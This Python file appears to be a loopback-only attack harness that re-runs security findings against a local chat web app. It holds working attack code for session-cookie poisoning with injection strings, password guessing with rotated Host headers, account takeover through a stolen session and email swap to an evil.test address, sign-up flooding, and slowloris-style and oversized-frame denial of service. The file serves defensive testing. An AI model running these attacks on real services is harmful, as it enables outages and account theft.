"""The attackers, in a process of their own on one core: each finding is a way to attack.

Their orders arrive on standard input, a line of JSON; their results go to standard output. They
speak raw HTTP, to send data that no library would, to loopback only and until their time is over.
"""

import asyncio
import base64
import itertools
import json
import os
import random
import re
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlencode
from uuid import uuid4

TOKEN = "a" * 32  # a csrftoken is valid if cookie and header agree
BIG_FIELD = 400_000
FIELDS = ("text", "model", "system_prompt", "max_tokens", "temperature", "reasoning_effort")
BIG_FRAME = 15_900_000
BIG_BODY = 50_000_000
PIECE = 65_536
ANSWER_SECONDS = 60.0
READ_BYTES = 262_144
REFILL = 30  # messages of each account
POISON = (
    '"\\000' + "a" * 32 + '"',
    '"\\377\\376"',
    "x" * 4_000,
    "a" * 31 + "%00",
    '"\\047 OR 1=1"',
)

Act = Callable[[], Awaitable[None]]


@dataclass(slots=True)
class Order:
    """The order of the attackers: target, addresses, sessions, and end."""

    mode: str
    seconds: float
    seed: str
    ports: list[int]
    sources: list[str]
    accounts: list[str]  # session keys
    targets: list[tuple[int, str]]  # whose session opens which page
    victim: str  # an address
    stolen: str  # a session of the victim


@dataclass(slots=True)
class Attackers:
    """All attackers of one order. `counts` is by act and response; `said` has a sample of each."""

    order: Order
    counts: Counter[str] = field(default_factory=Counter)
    said: dict[str, str] = field(default_factory=dict)
    until: float = 0.0
    chance: random.Random = field(default_factory=random.Random)
    numbers: Any = field(default_factory=itertools.count)

    async def run(self) -> None:
        self.until = time.monotonic() + self.order.seconds
        self.chance = random.Random(self.order.seed)
        modes = self.modes()
        chosen = [*modes.values()] if self.order.mode == "mixed" else [modes[self.order.mode]]
        # Anonymous connections, so that there are 200 of them in all.
        waits = (self.hold_headers, self.hold_a_socket)
        share = 3 if self.order.mode == "mixed" else 1
        await asyncio.gather(
            *(
                self._again_and_again(act, pause)
                for acts in chosen
                for act, copies, pause in acts
                for _ in range(copies if act in waits else -(-copies // share))
            )
        )

    def modes(self) -> dict[str, list[tuple[Act, int, float]]]:
        """By finding: the act, the number of simultaneous attackers, the pause between two acts."""
        return {
            "H1": [(self.view_nasty_replies, 12, 0.0)],
            "H2": [(self.poisoned_handshake, 40, 0.0), (self.poisoned_page, 4, 0.05)],
            "H3": [(self.leave_a_draft, 4, 0.0), (self.leave_a_small_draft, 8, 0.0)],
            "H4": [(self.queue_replies, 20, 0.0)],
            "H5": [(self.guess_password, 20, 0.0)],
            "H6": [(self.take_account, 1, 1.0)],
            "H7": [(self.sign_up, 20, 0.0)],
            "H8": [
                (self.hold_a_frame, 30, 0.5),
                (self.hold_a_frame_signed_in, 20, 0.5),
                (self.hold_headers, 60, 0.5),
                (self.send_a_big_body, 4, 0.2),
                (self.hold_a_socket, 100, 0.2),
            ],
        }

    async def _again_and_again(self, act: Act, pause: float) -> None:
        await asyncio.sleep(self.chance.random())
        while (left := self.until - time.monotonic()) > 0:
            try:
                async with asyncio.timeout(left):
                    await act()
            except (OSError, EOFError, TimeoutError, ValueError) as error:
                self.counts[f"{act.__name__} {type(error).__name__}"] += 1
                await asyncio.sleep(0.05)
            await asyncio.sleep(pause)

    # The findings

    async def view_nasty_replies(self) -> None:
        account, path = self.chance.choice(self.order.targets)
        await self._ask("view a nasty reply", path, session=self.order.accounts[account])

    async def poisoned_handshake(self) -> None:
        await self._shake_hands("poisoned handshake", self.chance.choice(POISON), hold=0)

    async def poisoned_page(self) -> None:
        await self._ask("poisoned page", "/", session=self.chance.choice(POISON))

    async def leave_a_draft(self) -> None:
        letters = base64.b64encode(self.chance.randbytes(BIG_FIELD * 3 // 4)).decode()
        form = dict.fromkeys(FIELDS, letters[:BIG_FIELD])
        await self._ask("big draft", self.chance.choice(self._drafts()), form=form)

    async def leave_a_small_draft(self) -> None:
        form = {"text": self.chance.randbytes(400).hex(), "model": "demo"}
        await self._ask("small draft", self.chance.choice(self._drafts()), form=form)

    def _drafts(self) -> list[str]:
        return ["/c/", f"/c/{uuid4()}/messages/", f"/m/{uuid4()}/versions/"]

    async def queue_replies(self) -> None:
        account = self.chance.choice(self.order.accounts)
        for _ in range(REFILL):
            text = " ".join(["Tell me everything you know, at length."] * 20)
            form = {"text": text, "model": "demo-slow", "request_id": str(uuid4())}
            await self._ask("queue a reply", "/c/", session=account, form=form)

    async def guess_password(self) -> None:
        form = {"login": self.order.victim, "password": f"guess-{next(self.numbers)}"}
        host = f"127.0.0.1:{1_000 + next(self.numbers) % 60_000}"
        await self._ask("guess a password", "/accounts/login/", form=form, host=host)

    async def take_account(self) -> None:
        mine = f"attacker{next(self.numbers)}@evil.test"
        for form in (
            {"action_add": "", "email": mine},
            {"action_primary": "", "email": mine},
            {"action_remove": "", "email": self.order.victim},
        ):
            await self._ask(
                f"take the account: {next(iter(form))}",
                "/accounts/email/",
                session=self.order.stolen,
                form=form,
            )
        await self._ask(
            "take the account: reset", "/accounts/password/reset/", form={"email": mine}
        )

    async def sign_up(self) -> None:
        secret = f"kelp-{self.chance.random()}"
        address = f"flood-{uuid4().hex}@evil.test"
        form = {"email": address, "password1": secret}
        await self._ask("sign up", "/accounts/signup/", form=form)

    async def hold_a_frame(self) -> None:
        await self._shake_hands("big frame", "", hold=10, frame=BIG_FRAME)

    async def hold_a_frame_signed_in(self) -> None:
        account = self.chance.choice(self.order.accounts)
        await self._shake_hands("big frame, signed in", account, hold=10, frame=BIG_FRAME)

    async def hold_a_socket(self) -> None:
        await self._shake_hands("idle socket", "", hold=20)

    async def hold_headers(self) -> None:
        reader, writer = await self._connect()
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
            async with asyncio.timeout(30):
                while await reader.read(1024):
                    pass
            self.counts["unfinished headers were closed"] += 1
        finally:
            writer.close()

    async def send_a_big_body(self) -> None:
        reader, writer = await self._connect()
        try:
            path = self.chance.choice(["/c/", "/healthz", "/accounts/login/"])
            writer.write(self._head("POST", path, "", f"127.0.0.1:{self._port}", BIG_BODY))
            for _ in range(BIG_BODY // PIECE + 1):
                writer.write(b"x" * PIECE)
                await writer.drain()
            await self._note("big body", reader)
        finally:
            writer.close()

    # Requests

    @property
    def _port(self) -> int:
        return self.chance.choice(self.order.ports)

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        source = self.chance.choice(self.order.sources)
        opening = asyncio.open_connection("127.0.0.1", self._port, local_addr=(source, 0))
        return await asyncio.wait_for(opening, 10)

    async def _ask(
        self, what: str, path: str, *, session: str = "", form: Any = None, host: str = ""
    ) -> None:
        """Send one request on a connection of its own, and record the result."""
        body = urlencode(form).encode() if form is not None else b""
        method = "POST" if form is not None else "GET"
        reader, writer = await self._connect()
        try:
            head = self._head(method, path, session, host or f"127.0.0.1:{self._port}", len(body))
            writer.write(head + body)
            await writer.drain()
            await self._note(what, reader)
        finally:
            writer.close()

    def _head(self, method: str, path: str, session: str, host: str, length: int) -> bytes:
        cookies = f"csrftoken={TOKEN}" + (f"; sessionid={session}" if session else "")
        lines = [
            f"{method} {path} HTTP/1.1",
            f"Host: {host}",
            f"Cookie: {cookies}",
            f"X-CSRFToken: {TOKEN}",
            "Content-Type: application/x-www-form-urlencoded",
            f"Content-Length: {length}",
            "Connection: close",
        ]
        return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")

    async def _note(self, what: str, reader: asyncio.StreamReader) -> None:
        async with asyncio.timeout(ANSWER_SECONDS):
            head = await reader.readline()
            status = [*head.split(), b"", b"nothing"][1].decode()
            body = b""
            while len(body) < READ_BYTES and (piece := await reader.read(PIECE)):
                body += piece
        self._count(f"{what}: {status}", body)

    def _count(self, key: str, body: bytes) -> None:
        self.counts[key] += 1
        if key not in self.said:
            _, _, text = body.partition(b"\r\n\r\n")
            plain = re.sub(r"(?s)<head.*?</head>|<[^>]*>", " ", text.decode(errors="replace"))
            self.said[key] = " ".join(plain.split())[:160]

    async def _shake_hands(self, what: str, session: str, *, hold: float, frame: int = 0) -> None:
        """Open a socket, possibly send a frame without its last byte, and hold the socket."""
        reader, writer = await self._connect()
        try:
            port = self._port
            key = base64.b64encode(self.chance.randbytes(16)).decode()
            head = self._head("GET", "/ws/", session, f"127.0.0.1:{port}", 0).decode("latin-1")
            head = head.replace("Connection: close", "Connection: Upgrade").strip()
            more = f"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}"
            writer.write(f"{head}\r\n{more}\r\nOrigin: http://127.0.0.1:{port}\r\n\r\n".encode())
            status = (await asyncio.wait_for(reader.readline(), ANSWER_SECONDS)).decode().strip()
            self.counts[f"{what}: {status[9:12] or 'closed'}"] += 1
            if frame:
                writer.write(b"\x81\xff" + frame.to_bytes(8, "big") + b"\0\0\0\0")
                for _ in range(frame // PIECE):
                    writer.write(b"x" * PIECE)
                    await writer.drain()
            async with asyncio.timeout(hold or 5):
                while await reader.read(PIECE):
                    if not hold:
                        break
                else:
                    self.counts[f"{what} was closed"] += 1
        except TimeoutError:
            self.counts[f"{what} was held to its end"] += 1
        finally:
            writer.close()


def main() -> None:
    order = Order(**json.loads(sys.stdin.readline()))
    os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
    attackers = Attackers(order)
    asyncio.run(attackers.run())
    print(json.dumps({"counts": attackers.counts, "said": attackers.said}), flush=True)


if __name__ == "__main__":
    main()
